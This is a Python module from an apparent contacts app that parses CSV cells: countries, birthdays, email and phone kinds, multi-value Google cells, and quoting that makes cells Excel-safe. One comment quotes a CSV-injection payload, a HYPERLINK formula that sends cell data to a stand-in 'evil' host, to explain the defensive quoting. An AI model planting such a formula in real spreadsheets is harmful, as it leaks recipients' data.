"""Reading the cells of a contacts CSV: countries, birthdays, kinds of e-mail and phone,
multi-value cells, and the Excel-safe quote of our own export."""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Iterable
from functools import cache

from babel import Locale, UnknownLocaleError

from relationsapp.core.choices import EmailKind, PhoneKind
from relationsapp.core.records import NO_YEAR
from relationsapp.i18n.translate import _
from relationsapp.storage.text_folding import fold

#: Google joins several values of one cell with " ::: " ("a@x.dk ::: b@y.dk").
MULTI_SEPARATOR = " ::: "

# --- Excel-safe cells (CSV / formula injection) ----------------------------------------

#: What makes Excel, LibreOffice and Google Sheets read a cell as a formula: OWASP's list
#: for CSV injection (https://owasp.org/www-community/attacks/CSV_Injection). A cell
#: ``=HYPERLINK("http://evil/?"&A1,"Click")`` in an exported file would run when a
#: colleague opens it in Excel; prefixed with ``'`` it is shown as the text it is.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _quoted_formula(value: str) -> bool:
    """``'=1`` or ``''+45``: quotes in front of what would be a formula."""
    return value.startswith("'") and value.lstrip("'").startswith(FORMULA_STARTS)


def excel_safe(value: str) -> str:
    """``value`` with a ``'`` in front when a spreadsheet would run it as a formula.

    A value that already starts with quotes before a formula character (``'=1``) gets
    one more, so that :func:`unescape_cell` gives back exactly what was written.
    """
    if value.startswith(FORMULA_STARTS) or _quoted_formula(value):
        return "'" + value
    return value


def raw_cell(value: str) -> str:
    """``value`` as it is, except quotes before a formula character (``'=1`` → ``''=1``),
    which :func:`unescape_cell` would otherwise take for our own Excel-safe quote."""
    return "'" + value if _quoted_formula(value) else value


def unescape_cell(value: str) -> str:
    """Undo :func:`excel_safe` (and :func:`raw_cell`): ``'+45 …`` → ``+45 …``."""
    return value[1:] if _quoted_formula(value) else value


# --- multi-value cells ---------------------------------------------------------------


def split_multi(text: str, *, exact: bool = False) -> list[str]:
    """The values of a Google multi-value cell (``a ::: b``), stripped; ``exact`` splits
    only on ``" ::: "`` and keeps each value as written (our own export)."""
    if exact:
        return text.split(MULTI_SEPARATOR) if text else []
    return [part.strip() for part in text.split(":::") if part.strip()]


def split_tags(text: str, *, exact: bool = False) -> list[str]:
    """Tags of a cell: Google's ``* myContacts ::: Friends``, Outlook's ``Kunde;VIP``.

    Google's primary/system mark ``* `` is dropped, and so is its "My Contacts" group,
    which every contact of a Google account is in.
    """
    if exact:
        return split_multi(text, exact=True)
    parts = text.split(":::") if ":::" in text else re.split(r"[;,]", text)
    tags: list[str] = []
    for part in parts:
        tag = part.strip()
        if tag.startswith("*"):
            tag = tag[1:].strip()
            if fold(tag).replace(" ", "") == "mycontacts":
                continue
        if tag and tag not in tags:
            tags.append(tag)
    return tags


def strip_primary(text: str) -> tuple[str, bool]:
    """Google's primary mark: ``* Work`` → (``Work``, True)."""
    value = text.strip()
    if value.startswith("*"):
        return value[1:].strip(), True
    return value, False


# --- kinds ---------------------------------------------------------------------------

_MOBILE_WORDS = ("mobil", "cell", "handy", "matkapuhelin", "kannykka", "gsm", "portable")
_HOME_WORDS = ("home", "privat", "private", "personal", "hjem", "koti", "domicile", "zuhause")
_WORK_WORDS = (
    "work", "business", "main", "company", "office", "arbejde", "firma", "arbeit",
    "geschaftlich", "dienstlich", "tyo", "bureau", "travail", "professionnel", "internet",
)  # fmt: skip


def email_kind(label: str, default: EmailKind) -> EmailKind:
    """The kind for a label such as Google's ``Work``, ``Home``, ``Other`` or ``Privat``."""
    word = fold(label)
    if not word:
        return default
    if any(part in word for part in _HOME_WORDS):
        return EmailKind.HOME
    if any(part in word for part in _WORK_WORDS):
        return EmailKind.WORK
    return EmailKind.OTHER


def phone_kind(label: str, default: PhoneKind) -> PhoneKind:
    """The kind for a label such as ``Mobile``, ``Work Fax``, ``Home``, ``Pager``."""
    word = fold(label)
    if not word:
        return default
    if "fax" in word or "faksi" in word or "telecopie" in word:
        return PhoneKind.FAX
    if any(part in word for part in _MOBILE_WORDS):
        return PhoneKind.MOBILE
    if any(part in word for part in _HOME_WORDS):
        return PhoneKind.HOME
    if any(part in word for part in _WORK_WORDS):
        return PhoneKind.WORK
    return PhoneKind.OTHER


def own_kind(text: str, kinds: Iterable[str]) -> str | None:
    """A kind written by our own export (``work``, ``mobile`` …), or None."""
    value = text.strip().lower()
    return value if value in set(kinds) else None


# --- countries -----------------------------------------------------------------------

#: Languages whose country names are recognised (CLDR, through Babel).
COUNTRY_NAME_LANGUAGES = (
    "en", "da", "de", "fi", "sv", "nb", "nn", "fr", "nl", "es", "it", "pt", "pl", "ja",
    "zh", "ko", "ru",
)  # fmt: skip
_COUNTRY_ALIASES = {
    "usa": "US", "u.s.a.": "US", "u.s.": "US", "united states of america": "US",
    "america": "US", "uk": "GB", "u.k.": "GB", "great britain": "GB", "england": "GB",
    "scotland": "GB", "wales": "GB", "northern ireland": "GB", "holland": "NL",
    "south korea": "KR", "republic of korea": "KR", "czech republic": "CZ",
    "russia": "RU", "vietnam": "VN", "turkey": "TR", "hong kong": "HK", "macau": "MO",
}  # fmt: skip


def _country_key(text: str) -> str:
    return " ".join(fold(text).split())


@cache
def _country_names() -> dict[str, str]:
    import pytz  # its ISO 3166 list: CLDR also names regions such as "EU" and "419"

    codes = set(pytz.country_names)
    names: dict[str, str] = {}
    for code, name in pytz.country_names.items():
        names.setdefault(_country_key(name), code)
    for language in COUNTRY_NAME_LANGUAGES:
        try:
            territories = Locale.parse(language).territories
        except (UnknownLocaleError, ValueError):
            continue
        for code, name in territories.items():
            if code in codes:
                names.setdefault(_country_key(str(name)), code)
    for alias, code in _COUNTRY_ALIASES.items():
        names.setdefault(_country_key(alias), code)
    return names


def country_code(text: str) -> str | None:
    """``Danmark``, ``Denmark``, ``Dänemark``, ``Tanska``, ``dk`` → ``DK``; None if unknown."""
    value = text.strip()
    if len(value) == 2 and value.isascii() and value.isalpha():
        import pytz

        if value.upper() in pytz.country_names:
            return value.upper()
    return _country_names().get(_country_key(value))  # "UK" is a name, not a code


# --- birthdays -----------------------------------------------------------------------

_NO_DATE = re.compile(r"0{1,4}[./-]0{1,2}[./-]0{1,4}")  # Outlook's "0/0/00", "00.00.00"
_YEARLESS = re.compile(r"--(\d{2})-?(\d{2})")  # Google and vCard: "--04-12"
_ISO_DATE = re.compile(r"(\d{4})-(\d{1,2})-(\d{1,2})(?:[T ].*)?")
_COMPACT = re.compile(r"(\d{4})(\d{2})(\d{2})")
_DOTTED = re.compile(r"(\d{1,2})\.\s?(\d{1,2})\.\s?(\d{2}|\d{4})")
_SLASHED = re.compile(r"(\d{1,2})/(\d{1,2})/(\d{2}|\d{4})(?:\s.*)?")
_DASHED = re.compile(r"(\d{1,2})-(\d{1,2})-(\d{4})")


def slash_order(values: Iterable[str], default_month_first: bool) -> bool | None:
    """Whether the slash dates of a column are month first (True), day first (False),
    or both kinds are seen (None: a date like 3/4 cannot be read then)."""
    day_first = month_first = False
    for value in values:
        match = _SLASHED.fullmatch(value.strip())
        if match:
            first, second = int(match[1]), int(match[2])
            day_first |= first > 12 >= second
            month_first |= second > 12 >= first
    if day_first and month_first:
        return None
    if day_first or month_first:
        return month_first
    return default_month_first


def _full_year(text: str) -> int:
    year = int(text)
    if len(text) == 2:  # Outlook on some systems: 1/2/80
        this_year = dt.date.today().year % 100
        year += 2000 if year <= this_year else 1900
    return year


def read_birthday(text: str, month_first: bool | None) -> dt.date | str | None:
    """The date, None for an empty date, or the reason (for people) it is not a date.

    ISO ``1980-04-12``; year-less ``--04-12`` (stored in :data:`NO_YEAR`); Outlook's
    ``4/12/1980`` (``month_first``: see :func:`slash_order`) and ``0/0/00`` (no date);
    ``12.04.1980``, ``12-04-1980``.
    """
    value = text.strip()
    if not value or _NO_DATE.fullmatch(value):
        return None
    parts: list[tuple[int, int, int]] = []
    if match := _YEARLESS.fullmatch(value):
        parts = [(NO_YEAR, int(match[1]), int(match[2]))]
    elif (match := _ISO_DATE.fullmatch(value)) or (match := _COMPACT.fullmatch(value)):
        parts = [(int(match[1]), int(match[2]), int(match[3]))]
    elif (match := _DOTTED.fullmatch(value)) or (match := _DASHED.fullmatch(value)):
        parts = [(_full_year(match[3]), int(match[2]), int(match[1]))]
    elif match := _SLASHED.fullmatch(value):
        year, first, second = _full_year(match[3]), int(match[1]), int(match[2])
        if month_first is None:
            parts = [(year, first, second), (year, second, first)]
        else:
            parts = [(year, first, second) if month_first else (year, second, first)]
    dates: list[dt.date] = []
    for year, month, day in parts:
        try:
            candidate = dt.date(year, month, day)
        except ValueError:
            continue
        if candidate not in dates:
            dates.append(candidate)
    if len(dates) == 1:
        return dates[0]
    if len(dates) > 1:
        return _("The birthday “%(value)s” could be %(first)s or %(second)s.") % {
            "value": value,
            "first": dates[0].isoformat(),
            "second": dates[1].isoformat(),
        }
    return _("The birthday “%(value)s” is not a date.") % {"value": value}


def birthday_text(birthday: dt.date) -> str:
    """ISO, or ``--MM-DD`` for a birthday without a year (as Google and vCard write it)."""
    if birthday.year == NO_YEAR:
        return f"--{birthday.month:02d}-{birthday.day:02d}"
    return birthday.isoformat()


#: Unmapped cells that say nothing: Outlook's empty dates and "unspecified" gender.
_PLACEHOLDERS = frozenset(
    ("unspecified", "nicht angegeben", "ikke angivet", "non specifie", "ei maaritetty")
)


def is_placeholder(value: str) -> bool:
    """True for a cell Outlook fills in for "nothing" (``0/0/00``, ``Unspecified``)."""
    return bool(_NO_DATE.fullmatch(value.strip())) or fold(value.strip()) in _PLACEHOLDERS
